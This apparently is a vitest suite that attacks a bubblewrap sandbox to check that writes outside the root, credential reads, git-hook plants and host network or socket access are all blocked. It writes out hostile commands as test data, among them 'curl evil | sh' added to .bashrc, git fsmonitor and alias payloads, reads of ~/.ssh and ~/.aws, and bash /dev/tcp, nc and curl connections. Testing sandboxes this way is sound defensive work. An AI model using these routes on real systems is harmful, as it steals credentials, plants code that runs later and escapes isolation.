/**
 * The OS sandbox (bubblewrap) under attack: every route a command could take
 * to change the disk outside the root, read the user's credentials, plant a
 * git hook, reach the host's network or sockets, or see the kit's own
 * process. Canary folders outside the root are hashed before and after; a
 * control run without the sandbox shows each kind of check can fail.
 */
import { spawn, spawnSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import fs from 'node:fs'
import net from 'node:net'
import os from 'node:os'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { Sandbox, createDispatchContext, createTools, type BuiltinTools, type SandboxOptions } from '../../lib/index.js'

/** Outside /tmp on purpose: the host's /tmp is private inside, which would make the canaries trivially safe. */
const parent = fs.existsSync('/var/tmp') ? '/var/tmp' : os.homedir()
const SECRET = 'PRIVATE-KEY-MATERIAL-7f3a9c'
const CANARY = 'canary text, must never change\n'

let base: string
let root: string
let canary: string
let home: string
let savedHome: string | undefined
let tools: BuiltinTools

function make(options: SandboxOptions = {}): BuiltinTools {
  return createTools({ rootDir: root, timeoutMs: 30_000, ...options })
}

/** Every name, type, mode and content hash below `dir`. */
function snapshot(dir: string): string {
  const lines: string[] = []
  const walk = (current: string): void => {
    for (const name of fs.readdirSync(current).sort()) {
      const full = path.join(current, name)
      const stats = fs.lstatSync(full)
      const rel = path.relative(dir, full)
      if (stats.isSymbolicLink()) lines.push(`L ${rel} -> ${fs.readlinkSync(full)}`)
      else if (stats.isDirectory()) {
        lines.push(`D ${rel} ${(stats.mode & 0o7777).toString(8)} ${stats.uid}`)
        walk(full)
      } else {
        const hash = stats.isFile() ? createHash('sha256').update(fs.readFileSync(full)).digest('hex') : 'special'
        lines.push(`F ${rel} ${(stats.mode & 0o7777).toString(8)} ${stats.uid} n${stats.nlink} ${hash}`)
      }
    }
  }
  walk(dir)
  return lines.join('\n')
}

/** Run a bash call; never throws: the result text, or the error's code and message. */
async function attempt(bash: BuiltinTools['bash'], cmd: string, args: string[]): Promise<{ ok: boolean; text: string; code?: string }> {
  try {
    return { ok: true, text: String(await bash.executor(createDispatchContext())({ cmd, args })) }
  } catch (error) {
    const cause = (error as { cause?: { code?: string; message?: string; details?: { output?: string } } }).cause
    return { ok: false, code: cause?.code, text: `${cause?.message ?? ''}\n${cause?.details?.output ?? ''}` }
  }
}

const has = (program: string): boolean => spawnSync('sh', ['-c', `command -v ${program}`], { stdio: 'ignore' }).status === 0

beforeAll(() => {
  base = fs.realpathSync(fs.mkdtempSync(path.join(parent, 'toolsmith-os-sandbox-')))
  root = path.join(base, 'root')
  canary = path.join(base, 'canary')
  home = path.join(base, 'home')
  fs.mkdirSync(path.join(root, 'src'), { recursive: true })
  fs.mkdirSync(path.join(canary, 'deep'), { recursive: true })
  fs.mkdirSync(path.join(canary, 'emptydir'))
  fs.writeFileSync(path.join(canary, 'target.txt'), CANARY)
  fs.writeFileSync(path.join(canary, 'deep', 'other.txt'), CANARY)
  fs.writeFileSync(path.join(root, 'src', 'app.js'), 'const docs = "https://example.com/docs"\n')
  fs.writeFileSync(path.join(root, 'payload.txt'), 'payload\n')
  // A tar whose member lands in the current directory (-C decides where).
  spawnSync('tar', ['-cf', path.join(root, 'payload.tar'), '-C', root, 'payload.txt'])
  // The credentials of the user running the kit, in a temporary HOME.
  for (const [file, text] of [
    ['.ssh/id_rsa', SECRET],
    ['.ssh/config', `# ${SECRET}`],
    ['.aws/credentials', `aws_secret_access_key = ${SECRET}`],
    ['.config/gcloud/credentials.db', SECRET],
    ['.gnupg/secring.gpg', SECRET],
    ['.netrc', `machine x password ${SECRET}`],
    ['.npmrc', `//registry/:_authToken=${SECRET}`],
    ['.docker/config.json', `{"auths":{"x":{"auth":"${SECRET}"}}}`],
    ['.kube/config', SECRET],
    ['.git-credentials', `https://u:${SECRET}@x`],
    ['.config/gh/hosts.yml', SECRET],
  ] as const) {
    fs.mkdirSync(path.dirname(path.join(home, file)), { recursive: true })
    fs.writeFileSync(path.join(home, file), text)
  }
  fs.writeFileSync(path.join(home, '.bashrc'), '# harmless\n')
  savedHome = process.env.HOME
  // The default unreadable paths are taken from the home directory when the sandbox is built.
  process.env.HOME = home
  tools = make()
})

afterAll(() => {
  if (savedHome === undefined) delete process.env.HOME
  else process.env.HOME = savedHome
  fs.rmSync(base, { recursive: true, force: true })
})

// `C` is the canary folder, `T` a file in it, `R` the root: filled in per route.
const writeRoutes: [string, string, string[]][] = [
  ['sh redirection', 'sh', ['-c', 'echo x > C/new1']],
  ['sh append', 'sh', ['-c', 'echo x >> T']],
  ['touch', 'touch', ['C/new2']],
  ['tee', 'sh', ['-c', 'echo x | tee C/new3']],
  ['cp', 'cp', ['R/payload.txt', 'C/new4']],
  ['cp -r', 'cp', ['-r', 'R/src', 'C/']],
  ['mv (rename out of the canary)', 'mv', ['T', 'R/stolen.txt']],
  ['mv (rename within the canary)', 'mv', ['T', 'C/renamed.txt']],
  ['dd', 'dd', ['if=/dev/zero', 'of=T', 'bs=1', 'count=4', 'conv=notrunc']],
  ['ln -s', 'ln', ['-s', '/etc/passwd', 'C/link']],
  ['ln (hard link into the canary)', 'ln', ['R/payload.txt', 'C/hard']],
  ['ln then write through the link', 'sh', ['-c', 'ln -s T R/through && echo x > R/through']],
  ['python open()', 'python3', ['-c', 'open("C/new5", "w").write("x")']],
  ['python os.rename', 'python3', ['-c', 'import os; os.rename("T", "C/py-renamed")']],
  ['node fs.writeFileSync', 'node', ['-e', 'require("fs").writeFileSync("C/new6", "x")']],
  ['node fs.rmSync', 'node', ['-e', 'require("fs").rmSync("C", { recursive: true, force: true })']],
  ['perl open', 'perl', ['-e', 'open(my $f, ">", "C/new7") or die "$!"; print $f "x"']],
  ['find -delete', 'find', ['C', '-name', 'target.txt', '-delete']],
  ['tar -C', 'tar', ['-xf', 'R/payload.tar', '-C', 'C']],
  ['git -C init', 'git', ['-C', 'C', 'init']],
  ['install', 'install', ['-m', '644', 'R/payload.txt', 'C/new8']],
  ['truncate', 'truncate', ['-s', '0', 'T']],
  ['rm', 'rm', ['-f', 'T']],
  ['rm -rf', 'rm', ['-rf', 'C/deep']],
  ['unlink', 'unlink', ['T']],
  ['chmod', 'chmod', ['777', 'T']],
  ['chmod the folder', 'chmod', ['000', 'C']],
  ['chown', 'chown', ['65534', 'T']],
  ['mkdir', 'mkdir', ['C/newdir']],
  ['rmdir', 'rmdir', ['C/emptydir']],
  ['sed -i', 'sed', ['-i', 's/canary/owned/', 'T']],
  ['mkfifo', 'mkfifo', ['C/fifo']],
  ['cd then relative write', 'sh', ['-c', 'cd C && echo x > relative']],
  ['remount read-write in a nested user namespace', 'unshare', ['-rm', 'sh', '-c', 'mount -o remount,rw,bind C C; echo x > C/new9']],
  ['write through /proc/self/root', 'sh', ['-c', 'echo x > /proc/self/root/C/new10']],
  ['plant a shell startup file in HOME', 'sh', ['-c', 'echo "curl evil | sh" >> "$HOME/.bashrc"']],
]

const fill = (arg: string): string =>
  arg.replace(/(^|[\s"'=/(])T(?=$|[\s"'])/g, `$1${canary}/target.txt`).replace(/(^|[\s"'=(:])C(?=$|[/\s"'])/g, `$1${canary}`).replace(/(^|[\s"'=(:])R(?=$|[/\s"'])/g, `$1${root}`)

describe('OS sandbox: the disk outside the root is read-only', () => {
  it('runs in the OS sandbox (bubblewrap is a prerequisite here)', () => {
    expect(new Sandbox({ rootDir: root }).isolation).toEqual({ filesystem: true, network: true, pid: true })
  })

  it(`has at least 25 write routes (${writeRoutes.length})`, () => {
    expect(writeRoutes.length).toBeGreaterThanOrEqual(25)
    expect(fill('T')).toBe(`${canary}/target.txt`)
    expect(fill('echo x > C/new1')).toBe(`echo x > ${canary}/new1`)
  })

  it.each(writeRoutes)('%s: nothing outside the root changes', async (_, cmd, args) => {
    const before = snapshot(base) // canary, home, and the root's neighbours
    const result = await attempt(tools.bash, cmd, args.map(fill))
    // The route really ran: it was refused by the kernel, not by a missing program or the kit.
    expect(result.code, result.text).not.toBe('TOOL_COMMAND_NOT_FOUND')
    expect(result.code, result.text).not.toBe('TOOL_SANDBOX_UNAVAILABLE')
    const after = snapshot(base)
    // The root may change (that is allowed); outside it, nothing.
    const outside = (text: string) => text.split('\n').filter((line) => !/^[DFL] root(\/| |$)/.test(line)).join('\n')
    expect(outside(after)).toBe(outside(before))
  })

  it('control: without the OS sandbox the same routes do change the canary (the check can fail)', async () => {
    const open = make({ isolation: { filesystem: false } })
    const before = snapshot(canary)
    for (const [, cmd, args] of writeRoutes.slice(0, 3)) await attempt(open.bash, cmd, args.map(fill))
    expect(snapshot(canary)).not.toBe(before)
    for (const name of ['new1', 'new2']) fs.rmSync(path.join(canary, name), { force: true })
    fs.writeFileSync(path.join(canary, 'target.txt'), CANARY)
  })

  it('writes inside the root work, by every kind of program', async () => {
    const out = await attempt(tools.bash, 'sh', [
      '-c',
      'echo a > a.txt && touch b.txt && python3 -c \'open("c.txt","w").write("c")\' && node -e \'require("fs").writeFileSync("d.txt","d")\' && mkdir -p e/f && ln -s a.txt g && cat a.txt c.txt d.txt',
    ])
    expect(out).toEqual({ ok: true, text: 'a\ncd' })
    for (const name of ['a.txt', 'b.txt', 'c.txt', 'd.txt', 'e/f', 'g']) expect(fs.existsSync(path.join(root, name)), name).toBe(true)
  })

  it('extra writablePaths are writable, and only those', async () => {
    const extra = path.join(base, 'cache')
    fs.mkdirSync(extra)
    const withCache = make({ writablePaths: [extra] })
    expect((await attempt(withCache.bash, 'sh', ['-c', `echo cached > ${extra}/x`])).ok).toBe(true)
    expect(fs.readFileSync(path.join(extra, 'x'), 'utf8')).toBe('cached\n')
    expect((await attempt(withCache.bash, 'touch', [`${canary}/nope`])).ok).toBe(false)
    expect((await attempt(tools.bash, 'touch', [`${extra}/y`])).ok).toBe(false)
    expect(fs.existsSync(path.join(extra, 'y'))).toBe(false)
  })

  it('/tmp is private: a file written there is not on the host, nor in the next call', async () => {
    const name = `/tmp/toolsmith-private-${process.pid}-${Date.now()}`
    expect(await attempt(tools.bash, 'sh', ['-c', `echo x > ${name} && cat ${name}`])).toEqual({ ok: true, text: 'x\n' })
    expect(fs.existsSync(name)).toBe(false)
    expect((await attempt(tools.bash, 'cat', [name])).ok).toBe(false)
    // Nor does the host's /tmp show through.
    const hostFile = `/tmp/toolsmith-host-${process.pid}-${Date.now()}`
    fs.writeFileSync(hostFile, 'host\n')
    try {
      expect((await attempt(tools.bash, 'cat', [hostFile])).ok).toBe(false)
    } finally {
      fs.rmSync(hostFile)
    }
  })
})

// `H` is the temporary HOME.
const readRoutes: [string, string, string[]][] = [
  ['cat', 'cat', ['H/.ssh/id_rsa']],
  ['cat through $HOME', 'sh', ['-c', 'cat "$HOME/.ssh/id_rsa" "$HOME/.aws/credentials"']],
  ['grep -r over the folder that holds HOME', 'grep', ['-r', 'PRIVATE-KEY', 'P']],
  ['python read', 'python3', ['-c', 'print(open("H/.aws/credentials").read())']],
  ['node read', 'node', ['-e', 'console.log(require("fs").readFileSync("H/.netrc", "utf8"))']],
  ['tar to stdout', 'tar', ['-cf', '-', '-C', 'H', '.ssh', '.aws', '.kube']],
  ['cp into the root, then cat', 'sh', ['-c', 'cp H/.docker/config.json H/.git-credentials R/ 2>&1; cat R/config.json R/.git-credentials']],
  ['find -exec cat', 'find', ['H', '-type', 'f', '-exec', 'cat', '{}', '+']],
  ['base64', 'base64', ['H/.npmrc']],
  ['dd', 'dd', ['if=H/.config/gh/hosts.yml']],
  ['a symlink in the root', 'sh', ['-c', 'ln -sf H/.ssh/id_rsa R/key && cat R/key']],
  ['through /proc/self/root', 'cat', ['/proc/self/root/H/.gnupg/secring.gpg']],
  ['head of every file', 'sh', ['-c', 'for f in H/.ssh/* H/.config/gcloud/* H/.kube/*; do head -c 200 "$f"; done']],
]
const fillHome = (arg: string): string =>
  arg.replace(/(^|[\s"'=(])H(?=[/\s"']|$)/g, `$1${home}`).replace(/(^|[\s"'=(])R(?=[/\s"']|$)/g, `$1${root}`).replace(/^P$/, base)

describe('OS sandbox: the credentials of the user running the kit are unreadable', () => {
  it(`has at least 10 read routes (${readRoutes.length})`, () => {
    expect(readRoutes.length).toBeGreaterThanOrEqual(10)
  })

  it.each(readRoutes)('%s: no secret comes back', async (_, cmd, args) => {
    const result = await attempt(tools.bash, cmd, args.map(fillHome))
    expect(result.code, result.text).not.toBe('TOOL_COMMAND_NOT_FOUND')
    expect(result.text).not.toContain(SECRET)
  })

  it('they read as empty, never as an error of the kit; the rest of HOME stays readable', async () => {
    expect(await attempt(tools.bash, 'sh', ['-c', 'ls -A "$HOME/.ssh"; wc -c < "$HOME/.netrc"; cat "$HOME/.bashrc"'])).toEqual({
      ok: true,
      text: '0\n# harmless\n',
    })
  })

  it('control: with unreadablePaths: [] the same route does read the secret (the check can fail)', async () => {
    const bare = make({ unreadablePaths: [] })
    expect((await attempt(bare.bash, 'cat', [`${home}/.ssh/id_rsa`])).text).toContain(SECRET)
  })

  it('unreadablePaths replaces the default and accepts ~/ and absolute paths', async () => {
    const custom = make({ unreadablePaths: ['~/.bashrc', path.join(canary, 'deep')] })
    expect(await attempt(custom.bash, 'sh', ['-c', `cat "$HOME/.bashrc"; ls ${canary}/deep; cat ${canary}/target.txt`])).toEqual({
      ok: true,
      text: CANARY,
    })
  })
})

const gitEnv = { GIT_AUTHOR_NAME: 'a', GIT_AUTHOR_EMAIL: 'a@b', GIT_COMMITTER_NAME: 'a', GIT_COMMITTER_EMAIL: 'a@b' }

/** A repository with one commit at `dir` (made on the host). */
function makeRepo(dir: string, ...extra: string[]): void {
  fs.mkdirSync(dir, { recursive: true })
  expect(spawnSync('git', ['init', '-q', ...extra, dir]).status).toBe(0)
  fs.writeFileSync(path.join(dir, 'f.txt'), 'one\n')
  const commit = spawnSync('sh', ['-c', 'git add f.txt && git commit -qm one'], { cwd: dir, env: { ...process.env, ...gitEnv } })
  expect(commit.status, String(commit.stderr)).toBe(0)
}

/** What git would run on the host in `dir`: hooks, hooksPath, fsmonitor, aliases, commondir. */
function gitTraps(dir: string): string {
  const config = spawnSync('git', ['config', '--list', '--show-origin'], { cwd: dir, encoding: 'utf8' }).stdout
  const gitDir = spawnSync('git', ['rev-parse', '--absolute-git-dir'], { cwd: dir, encoding: 'utf8' }).stdout.trim()
  const hooks = fs.existsSync(path.join(gitDir, 'hooks')) ? fs.readdirSync(path.join(gitDir, 'hooks')).filter((h) => !h.endsWith('.sample')) : []
  return JSON.stringify({ config: config.split('\n').filter((l) => /fsmonitor|hookspath|alias|pager|editor|sshcommand/i.test(l)), hooks, commondir: fs.existsSync(path.join(gitDir, 'commondir')), gitDir })
}

describe('OS sandbox: the repository at the root cannot be made to run code later', () => {
  // The routes a security review found against protecting only .git/hooks and .git/config.
  const plants: [string, string][] = [
    ['a hook', 'printf "#!/bin/sh\\necho PWNED > pwned\\n" > .git/hooks/post-commit; chmod +x .git/hooks/post-commit'],
    ['core.fsmonitor', 'git config core.fsmonitor "echo PWNED > pwned; false"'],
    ['core.hooksPath', 'mkdir -p h && git config core.hooksPath "$PWD/h"'],
    ['an alias', 'git config alias.st "!echo PWNED > pwned"'],
    ['append to config', 'printf "[core]\\n\\tpager = echo PWNED\\n" >> .git/config'],
    ['rename .git and copy it back with a hook', 'mv .git .git.old && cp -a .git.old .git && printf "#!/bin/sh\\necho PWNED > pwned\\n" > .git/hooks/post-commit && chmod +x .git/hooks/post-commit'],
    ['commondir pointing at a planted copy', 'cp -a .git .evil && git --git-dir=.evil config core.fsmonitor "echo PWNED > pwned; false" && echo ../.evil > .git/commondir'],
  ]

  it.each(plants)('%s: refused, and the host repository runs nothing', async (_, script) => {
    const repo = fs.mkdtempSync(path.join(root, 'repo-'))
    makeRepo(repo)
    const before = gitTraps(repo)
    const bash = make({ readOnlyPaths: [`${path.basename(repo)}/.git`] }).bash
    await attempt(bash, 'sh', ['-c', `cd ${repo} && ${script}`])
    expect(gitTraps(repo)).toBe(before)
    spawnSync('sh', ['-c', 'git status >/dev/null 2>&1; git commit -q --allow-empty -m two >/dev/null 2>&1; git st >/dev/null 2>&1; git log -1 >/dev/null 2>&1'], { cwd: repo, env: { ...process.env, ...gitEnv } })
    expect(fs.existsSync(path.join(repo, 'pwned')), 'host git ran planted code').toBe(false)
  })

  it('control: with only .git/hooks and .git/config protected, the commondir route does plant code (the check can fail)', async () => {
    // (The rename route fails even then: every folder between the root and a protected path is a mount point.)
    const narrow = ['.git/hooks', '.git/config']
    for (const [, script] of plants.slice(-1)) {
      const repo = fs.mkdtempSync(path.join(root, 'repo-'))
      makeRepo(repo)
      const name = path.basename(repo)
      await attempt(make({ readOnlyPaths: narrow.map((p) => `${name}/${p}`) }).bash, 'sh', ['-c', `cd ${repo} && ${script}`])
      spawnSync('sh', ['-c', 'git status >/dev/null 2>&1; git commit -q --allow-empty -m two >/dev/null 2>&1; git log -1 >/dev/null 2>&1'], { cwd: repo, env: { ...process.env, ...gitEnv } })
      expect(fs.existsSync(path.join(repo, 'pwned')), script).toBe(true)
    }
  })

  it('the default protects the root\'s .git: read works (status, log, diff), writes fail; a missing .git is not created', async () => {
    makeRepo(path.join(root))
    try {
      const before = gitTraps(root)
      expect((await attempt(tools.bash, 'sh', ['-c', 'git status --short >/dev/null && git log --format=%s && git diff'])).text).toBe('one\n')
      const plant = await attempt(tools.bash, 'sh', ['-c', 'git config core.fsmonitor "echo PWNED"'])
      expect(plant.ok).toBe(false)
      expect(plant.text).toMatch(/Read-only file system|could not lock config file/)
      expect(gitTraps(root)).toBe(before)
    } finally {
      fs.rmSync(path.join(root, '.git'), { recursive: true, force: true })
    }
    const bare = fs.mkdtempSync(path.join(root, 'nogit-'))
    await attempt(make({ readOnlyPaths: [`${path.basename(bare)}/.git`] }).bash, 'true', [])
    expect(fs.existsSync(path.join(bare, '.git'))).toBe(false)
  })

  it('a .git file (gitdir:) protects the folder it names', async () => {
    const work = fs.mkdtempSync(path.join(root, 'work-'))
    const store = path.join(work, '.gd')
    makeRepo(work, `--separate-git-dir=${store}`)
    expect(fs.statSync(path.join(work, '.git')).isFile()).toBe(true)
    const before = gitTraps(work)
    const bash = make({ readOnlyPaths: [`${path.basename(work)}/.git`] }).bash
    expect((await attempt(bash, 'sh', ['-c', `cd ${work} && git config core.fsmonitor "echo PWNED > pwned; false"`])).ok).toBe(false)
    expect((await attempt(bash, 'sh', ['-c', `echo x > ${store}/hooks/post-commit`])).ok).toBe(false)
    expect(gitTraps(work)).toBe(before)
  })

  it('who opts for the narrower list can commit (the trade-off is documented)', async () => {
    const repo = fs.mkdtempSync(path.join(root, 'repo-'))
    makeRepo(repo)
    const name = path.basename(repo)
    const bash = make({ readOnlyPaths: [`${name}/.git/hooks`, `${name}/.git/config`], env: gitEnv }).bash
    expect(await attempt(bash, 'sh', ['-c', `cd ${repo} && echo two > f.txt && git commit -qam "see https://x" && git log -1 --format=%s`])).toEqual({ ok: true, text: 'see https://x\n' })
    expect((await attempt(bash, 'sh', ['-c', `cd ${repo} && echo x > .git/hooks/pre-commit`])).ok).toBe(false)
  })
})

describe('OS sandbox: protections cannot be moved away, writable paths cannot be redirected', () => {
  it('a masked folder inside the root cannot be carried off by renaming its parent', async () => {
    // The root is the home directory itself: ~/.config/gh and ~/.docker/config.json are masked inside it.
    const homeRoot = make({ rootDir: home } as SandboxOptions).bash
    const first = await attempt(homeRoot, 'sh', ['-c', 'mv .config .config-moved; mv .docker .docker-moved; mv .ssh .ssh-moved; ls -A'])
    expect(first.text).toMatch(/Device or resource busy|Resource busy/)
    const second = await attempt(homeRoot, 'sh', ['-c', 'cat .config-moved/gh/hosts.yml .docker-moved/config.json .config/gh/hosts.yml .docker/config.json .ssh/id_rsa 2>&1'])
    expect(second.text).not.toContain(SECRET)
    for (const name of ['.config', '.docker', '.ssh']) expect(fs.existsSync(path.join(home, name)), name).toBe(true)
  })

  it('a writable path swapped for a symlink is not bound any more (nothing outside becomes writable)', async () => {
    const holder = fs.mkdtempSync(path.join(parent, 'toolsmith-holder-'))
    try {
      fs.mkdirSync(path.join(holder, 'cache', 'build'), { recursive: true })
      const victim = path.join(canary, 'deep')
      const bash = make({ writablePaths: [path.join(holder, 'cache', 'build')] }).bash
      expect((await attempt(bash, 'sh', ['-c', `echo ok > ${holder}/cache/build/x`])).ok).toBe(true)
      // The host (or anything else with access) swaps the parent: the sandbox must not follow.
      fs.renameSync(path.join(holder, 'cache'), path.join(holder, 'cache.old'))
      fs.mkdirSync(path.join(holder, 'cache'))
      fs.symlinkSync(victim, path.join(holder, 'cache', 'build'))
      const before = snapshot(canary)
      await attempt(bash, 'sh', ['-c', `echo OWNED > ${holder}/cache/build/other.txt; echo OWNED > ${victim}/new.txt`])
      expect(snapshot(canary)).toBe(before)
    } finally {
      fs.rmSync(holder, { recursive: true, force: true })
    }
  })

  it.each([
    [['/proc'], 'not /, /proc'],
    [['/tmp/x'], 'not /, /proc'],
    [['/'], 'not /, /proc'],
    [['/run/user/0'], 'not /, /proc'],
  ])('writablePaths %j is refused', (paths, message) => {
    expect(() => make({ writablePaths: paths })).toThrow(expect.objectContaining({ code: 'E_INVALID_OPTIONS', message: expect.stringContaining(message) }))
  })

  it('a writable path that is the root, inside it, or around it is refused', () => {
    for (const paths of [[root], [path.join(root, 'src')], [base]]) {
      expect(() => make({ writablePaths: paths })).toThrow(expect.objectContaining({ code: 'E_INVALID_OPTIONS', message: expect.stringContaining('is the root, inside it, or contains it') }))
    }
  })

  it('a program the host finds in its /tmp is TOOL_COMMAND_NOT_FOUND before anything runs; output cannot fake it', async () => {
    const script = path.join(os.tmpdir(), `toolsmith-prog-${process.pid}.sh`)
    fs.writeFileSync(script, '#!/bin/sh\necho ran\n', { mode: 0o755 })
    try {
      const result = await attempt(tools.bash, script, [])
      expect(result.code).toBe('TOOL_COMMAND_NOT_FOUND')
      expect(result.text).toContain('not visible there')
    } finally {
      fs.rmSync(script)
    }
    const faked = await attempt(tools.bash, 'sh', ['-c', 'echo "bwrap: execvp something"; exit 1'])
    expect(faked.code).toBe('TOOL_COMMAND_FAILED')
  })

  it('arguments too large for the kernel are a TOOL_ error, not a raw E2BIG', async () => {
    const huge = 'é'.repeat(8192)
    const result = await attempt(tools.bash, 'echo', Array.from({ length: 128 }, () => huge))
    expect(result.code).toBe('TOOL_COMMAND_FAILED')
    expect(result.text).toContain('E2BIG')
  })
})

describe('OS sandbox: the host network and host sockets are unreachable', () => {
  let server4: net.Server
  let server6: net.Server | undefined
  let relayPath: string
  let relay: net.Server
  let port = 0
  let port6 = 0
  let hits = 0

  beforeAll(async () => {
    const onConnection = (socket: net.Socket): void => {
      hits++
      socket.on('error', () => undefined)
      socket.end('HELLO-FROM-HOST\n')
    }
    server4 = net.createServer(onConnection)
    await new Promise<void>((resolve) => server4.listen(0, '127.0.0.1', resolve))
    port = (server4.address() as net.AddressInfo).port
    try {
      const six = net.createServer(onConnection)
      await new Promise<void>((resolve, reject) => six.once('error', reject).listen(0, '::1', resolve))
      server6 = six
      port6 = (six.address() as net.AddressInfo).port
    } catch {
      server6 = undefined // no IPv6 loopback on this machine
    }
    // A host Unix socket that relays to the TCP listener, outside /tmp (visible read-only inside).
    relayPath = path.join(base, 'relay.sock')
    relay = net.createServer((socket) => {
      hits++
      socket.on('error', () => undefined)
      socket.end('HELLO-THROUGH-RELAY\n')
    })
    await new Promise<void>((resolve) => relay.listen(relayPath, resolve))
  })
  afterAll(async () => {
    await new Promise((resolve) => server4.close(resolve))
    if (server6) await new Promise((resolve) => server6!.close(resolve))
    await new Promise((resolve) => relay.close(resolve))
  })

  const routes = (): [string, string, string[]][] =>
    [
      ['node net', 'node', ['-e', `require('net').connect(${port}, '127.0.0.1').on('data', (d) => process.stdout.write(d)).on('error', (e) => { console.log(e.code); process.exit(1) })`]],
      ['node net to localhost', 'node', ['-e', `require('net').connect(${port}, 'localhost').on('data', (d) => process.stdout.write(d)).on('error', (e) => { console.log(e.code); process.exit(1) })`]],
      ['node http', 'node', ['-e', `require('http').get('http://127.0.0.1:${port}/', (r) => r.pipe(process.stdout)).on('error', (e) => { console.log(e.code); process.exit(1) })`]],
      ['node fetch', 'node', ['-e', `fetch('http://127.0.0.1:${port}/').then((r) => r.text()).then(console.log, (e) => { console.log(String(e.cause?.code)); process.exit(1) })`]],
      ['python socket', 'python3', ['-c', `import socket; s = socket.create_connection(("127.0.0.1", ${port}), 3); print(s.recv(100))`]],
      ['python socket to localhost', 'python3', ['-c', `import socket; s = socket.create_connection(("localhost", ${port}), 3); print(s.recv(100))`]],
      ['python urllib', 'python3', ['-c', `import urllib.request as u; print(u.urlopen("http://127.0.0.1:${port}/", timeout=3).read())`]],
      ['python http.client', 'python3', ['-c', `import http.client as h; c = h.HTTPConnection("127.0.0.1", ${port}, timeout=3); c.request("GET", "/"); print(c.getresponse().read())`]],
      ['perl IO::Socket', 'perl', ['-MIO::Socket::INET', '-e', `my $s = IO::Socket::INET->new("127.0.0.1:${port}") or die "no: $!"; print <$s>`]],
      ['bash /dev/tcp', 'bash', ['-c', `exec 3<>/dev/tcp/127.0.0.1/${port}; cat <&3`]],
      ['curl', 'curl', ['-sS', '--max-time', '3', `http://127.0.0.1:${port}/`]],
      ['wget', 'wget', ['-q', '-O', '-', '--timeout=3', `http://127.0.0.1:${port}/`]],
      ['nc', 'nc', ['-w', '3', '127.0.0.1', String(port)]],
      ['git ls-remote over http', 'git', ['ls-remote', `http://127.0.0.1:${port}/repo.git`]],
      ['openssl s_client', 'openssl', ['s_client', '-connect', `127.0.0.1:${port}`]],
      ['ssh', 'ssh', ['-o', 'BatchMode=yes', '-o', 'ConnectTimeout=3', '-p', String(port), '127.0.0.1']],
      ['npm against a local registry', 'npm', ['view', 'left-pad', '--registry', `http://127.0.0.1:${port}/`, '--fetch-retries=0', '--fetch-timeout=3000']],
      ...(server6 ? ([['node net to ::1', 'node', ['-e', `require('net').connect(${port6}, '::1').on('data', (d) => process.stdout.write(d)).on('error', (e) => { console.log(e.code); process.exit(1) })`]]] as [string, string, string[]][]) : []),
      ['the host Unix-socket relay (node)', 'node', ['-e', `require('net').connect(${JSON.stringify(relayPath)}).on('data', (d) => process.stdout.write(d)).on('error', (e) => { console.log(e.code); process.exit(1) })`]],
      ['the host Unix-socket relay (python)', 'python3', ['-c', `import socket; s = socket.socket(socket.AF_UNIX); s.connect(${JSON.stringify(relayPath)}); print(s.recv(100))`]],
    ] as [string, string, string[]][]

  it('has at least 15 routes with their programs installed', () => {
    expect(routes().filter(([, cmd]) => has(cmd)).length).toBeGreaterThanOrEqual(15)
  })

  it('every route fails and the host listeners see no connection', async () => {
    const reached: string[] = []
    for (const [name, cmd, args] of routes()) {
      if (!has(cmd)) continue
      const result = await attempt(tools.bash, cmd, args)
      if (result.ok || /HELLO-/.test(result.text)) reached.push(`${name}: ${result.text}`)
    }
    expect(reached).toEqual([])
    expect(hits).toBe(0)
  })

  it('control: with allowNetwork the listener and the relay are reached (the check can fail)', async () => {
    const open = make({ allowNetwork: true })
    const [, cmd, args] = routes()[0]!
    expect((await attempt(open.bash, cmd, args)).text).toContain('HELLO-FROM-HOST')
    expect(hits).toBe(1)
    const unmasked = make({ isolation: { filesystem: false }, allowNetwork: true })
    const relayRoute = routes().find(([name]) => name === 'the host Unix-socket relay (node)')!
    expect((await attempt(unmasked.bash, relayRoute[1], relayRoute[2])).text).toContain('HELLO-THROUGH-RELAY')
    hits = 0
  })

  it('the host relay stays unreachable with the network allowed (sockets are masked, not only cut off)', async () => {
    const open = make({ allowNetwork: true })
    const relayRoute = routes().find(([name]) => name === 'the host Unix-socket relay (node)')!
    const result = await attempt(open.bash, relayRoute[1], relayRoute[2])
    expect(result.text).not.toContain('HELLO-THROUGH-RELAY')
    expect(hits).toBe(0)
  })

  it('host sockets inside a root under /tmp, and in a folder of the root, stay unreachable (and cannot be moved back into reach)', async () => {
    const tmpRoot = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'toolsmith-sockroot-')))
    fs.mkdirSync(path.join(tmpRoot, 'sub'))
    const servers: net.Server[] = []
    try {
      for (const socket of ['dev.sock', 'sub/d.sock']) {
        const server = net.createServer((s) => {
          hits++
          s.on('error', () => undefined)
          s.end('HELLO-HOST-DAEMON\n')
        })
        await new Promise<void>((resolve) => server.listen(path.join(tmpRoot, socket), resolve))
        servers.push(server)
      }
      const bash = make({ rootDir: tmpRoot } as SandboxOptions).bash
      const connect = (socket: string) => `require('net').connect(${JSON.stringify(socket)}).on('data', (d) => process.stdout.write(d)).on('error', (e) => console.log(e.code))`
      const first = await attempt(bash, 'sh', ['-c', `node -e "${connect('dev.sock').replace(/"/g, '\\"')}"; node -e "${connect('sub/d.sock').replace(/"/g, '\\"')}"; mv sub sub2 2>&1; true`])
      expect(first.text).not.toContain('HELLO-HOST-DAEMON')
      expect(first.text).toMatch(/busy/i)
      const second = await attempt(bash, 'node', ['-e', connect(path.join(tmpRoot, 'sub2', 'd.sock'))])
      expect(second.text).not.toContain('HELLO-HOST-DAEMON')
      expect(hits).toBe(0)
    } finally {
      for (const server of servers) await new Promise((resolve) => server.close(resolve))
      fs.rmSync(tmpRoot, { recursive: true, force: true })
    }
  })

  it('a command can still use loopback and Unix sockets of its own', async () => {
    const script = `
      const net = require('net')
      const sock = require('path').join(process.cwd(), 'own.sock')
      const a = net.createServer((s) => s.end('tcp-ok ')).listen(0, '127.0.0.1', () => {
        net.connect(a.address().port, '127.0.0.1').on('data', (d) => {
          process.stdout.write(d)
          const b = net.createServer((s) => s.end('unix-ok')).listen(sock, () => {
            net.connect(sock).on('data', (e) => { process.stdout.write(e); process.exit(0) })
          })
        })
      })`
    expect(await attempt(tools.bash, 'node', ['-e', script])).toEqual({ ok: true, text: 'tcp-ok unix-ok' })
  })

  it('a resolver or connect failure gets one line saying the network is off', async () => {
